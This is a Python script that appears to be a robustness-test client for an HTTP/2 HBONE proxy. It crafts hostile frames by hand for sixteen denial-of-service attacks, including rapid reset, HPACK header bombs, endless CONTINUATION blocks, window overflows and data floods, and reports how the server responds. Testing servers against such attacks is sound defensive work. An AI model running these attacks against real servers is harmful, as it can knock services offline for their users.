"""An HBONE client with a valid certificate that means harm: frames made by hand.

  python3 h2-hostile.py --to ADDR --port N --cert FILE --key FILE --authority HOST:PORT --attack NAME [--count N]

  rapid-reset          CONNECT and RST_STREAM CANCEL, again and again
  settings, ping       frames that must be answered
  empty-data, priority, window-updates    frames that do nothing
  streams              CONNECT, again and again; --count of them open
  header-bomb          one field put into the dynamic table, and a block that names it thousands of times
  continuation         a header block that never ends
  empty-continuation   the same, without a byte in it
  huge-frame           a frame longer than SETTINGS_MAX_FRAME_SIZE
  stream-window, connection-window    WINDOW_UPDATE beyond 2^31-1
  data-flood           DATA on an accepted stream, beyond every window
  no-preface, garbage  no HTTP/2, nothing at all

Reads what comes meanwhile. Prints {"event":"connected"}, {"event":"accepted"} before data-flood, and at the end
{"event":"over",sent,answers,resets,goaway?,debug?,how}: frames sent, answers by status, RST_STREAMs by code, the code of
GOAWAY, and `how` the connection ended: closed, reset, or `open`: all is sent and the peer has put up with it, which a
PING afterwards has proven. With --hold the connection then stays until the end of standard input.
"""
import argparse
import selectors
import socket
import ssl
import struct
import sys
from collections import Counter

import hpack
from h2_session import name_of, say, tls_context

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_HEADERS = 4
ACK = 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LAST_PING = b"are you?"
BATCH = 100
PATIENCE = 20

parser = argparse.ArgumentParser()
parser.add_argument("--to", required=True)
parser.add_argument("--port", type=int, required=True)
parser.add_argument("--cert")
parser.add_argument("--key")
parser.add_argument("--authority", required=True)
parser.add_argument("--attack", required=True)
parser.add_argument("--count", type=int, default=10000)
parser.add_argument("--hold", action="store_true")
parser.set_defaults(tls="1.3", alpn="h2", roots=None)
options = parser.parse_args()
encoder = hpack.Encoder()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def connect_block():
    return encoder.encode([(":method", "CONNECT"), (":authority", options.authority)])


def stream_ids():
    return range(1, 2 * options.count, 2)


def rapid_reset():
    for number in stream_ids():
        yield frame(HEADERS, END_HEADERS, number, connect_block()) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))


def streams():
    for number in stream_ids():
        yield frame(HEADERS, END_HEADERS, number, connect_block())


def repeated(*frames):
    for _ in range(options.count):
        yield b"".join(frames)


def on_a_stream(*frames):
    yield frame(HEADERS, END_HEADERS, 1, connect_block())
    yield from repeated(*frames)


def header_bomb():
    value = b"b" * 4000
    literal = b"\x40" + bytes([1]) + b"x" + hpack.hpack.encode_integer(len(value), 7) + value
    # Index 62 is the field that was put in last.
    yield frame(HEADERS, END_HEADERS, 1, connect_block() + literal + b"\xbe" * 11000)
    for number in range(3, 2 * options.count, 2):
        yield frame(HEADERS, END_HEADERS, number, b"\xbe" * 16000)


def continuation(piece):
    yield frame(HEADERS, 0, 1, connect_block())
    for _ in range(options.count):
        yield frame(CONTINUATION, 0, 1, piece)


def no_preface():
    yield b"GET / HTTP/1.1\r\nhost: example\r\n\r\n" * options.count


def garbage():
    for _ in range(options.count):
        yield b"\xff" * 1000


LONG_FIELD = b"\x00\x01x" + hpack.hpack.encode_integer(15000, 7) + b"v" * 15000
ATTACKS = {
    "rapid-reset": rapid_reset,
    "streams": streams,
    "settings": lambda: repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    "ping": lambda: repeated(frame(PING, 0, 0, b"12345678")),
    "priority": lambda: repeated(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1))),
    "empty-data": lambda: on_a_stream(frame(DATA, 0, 1)),
    "window-updates": lambda: repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "header-bomb": header_bomb,
    "continuation": lambda: continuation(LONG_FIELD),
    "empty-continuation": lambda: continuation(b""),
    "huge-frame": lambda: repeated(struct.pack(">I", 2**24 - 1)[1:] + struct.pack(">BBI", DATA, 0, 1) + b"x" * 16000),
    "stream-window": lambda: on_a_stream(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 2**31 - 1))),
    "connection-window": lambda: repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1))),
    "data-flood": lambda: repeated(frame(DATA, 0, 1, b"d" * 16384)),
    "no-preface": no_preface,
    "garbage": garbage,
}


class Peer:
    """What the other end says."""

    def __init__(self):
        self.held = b""
        self.decoder = hpack.Decoder()
        self.answers = Counter()
        self.resets = Counter()
        self.farewell = {}
        self.how = None
        self.lives = False

    def take(self, data):
        self.held += data
        while len(self.held) >= 9:
            length = int.from_bytes(self.held[:3], "big")
            if len(self.held) < 9 + length:
                return b""
            kind, flags, stream = struct.unpack(">BBI", self.held[3:9])
            self.look(kind, flags, self.held[9 : 9 + length])
            self.held = self.held[9 + length :]
        return b""

    def look(self, kind, flags, payload):
        if kind == HEADERS:
            self.answers[dict(self.decoder.decode(payload)).get(":status")] += 1
        elif kind == RST_STREAM:
            self.resets[name_of(struct.unpack(">I", payload)[0])] += 1
        elif kind == GOAWAY:
            self.farewell = {"goaway": name_of(struct.unpack(">I", payload[4:8])[0]), "debug": payload[8:].decode("latin1")}
        elif kind == PING and flags & ACK and payload == LAST_PING:
            self.lives = True


peer = Peer()
sent = 0
sock = socket.create_connection((options.to, options.port), PATIENCE)
secure = tls_context(options, False).wrap_socket(sock)
say({"event": "connected"})
secure.setblocking(False)
selector = selectors.DefaultSelector()
selector.register(secure, selectors.EVENT_READ)


def receive():
    """Everything that is there. False: the connection has ended."""
    while True:
        try:
            data = secure.recv(65536)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True
        if not data:
            peer.how = "closed"
            return False
        peer.take(data)


def send(data):
    """Sends all, and reads meanwhile. False: the connection has ended."""
    view = memoryview(data)
    while view:
        try:
            view = view[secure.send(view) :]
            wanted = selectors.EVENT_READ
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            wanted = selectors.EVENT_READ | selectors.EVENT_WRITE
        selector.modify(secure, wanted)
        for _, ready in selector.select(0 if wanted == selectors.EVENT_READ else PATIENCE):
            if ready & selectors.EVENT_READ and not receive():
                return False
    return True


def wait(condition):
    """Reads until it holds. False: the connection has ended, or nothing came for long."""
    selector.modify(secure, selectors.EVENT_READ)
    while not condition():
        if not selector.select(PATIENCE):
            peer.how = "silent"
            return False
        if not receive():
            return condition()
    return True


def attack():
    global sent
    if options.attack not in ("no-preface", "garbage") and not send(PREFACE + frame(SETTINGS, 0, 0)):
        return
    if options.attack == "data-flood":
        if not send(frame(HEADERS, END_HEADERS, 1, connect_block())) or not wait(lambda: peer.answers["200"]):
            return
        say({"event": "accepted"})
    batch = []
    for piece in ATTACKS[options.attack]():
        batch.append(piece)
        sent += 1
        if len(batch) == BATCH:
            if not send(b"".join(batch)):
                return
            batch = []
    if send(b"".join(batch)) and send(frame(PING, 0, 0, LAST_PING)) and wait(lambda: peer.lives):
        peer.how = "open"


try:
    attack()
except (ConnectionResetError, BrokenPipeError):
    peer.how = "reset"
except OSError as error:
    peer.how = str(error)
try:
    # What it said before it left may still be there.
    if peer.how not in ("open", "closed"):
        receive()
except OSError:
    pass
say({"event": "over", "sent": sent, "answers": peer.answers, "resets": peer.resets, **peer.farewell, "how": peer.how})
if options.hold:
    sys.stdin.read()
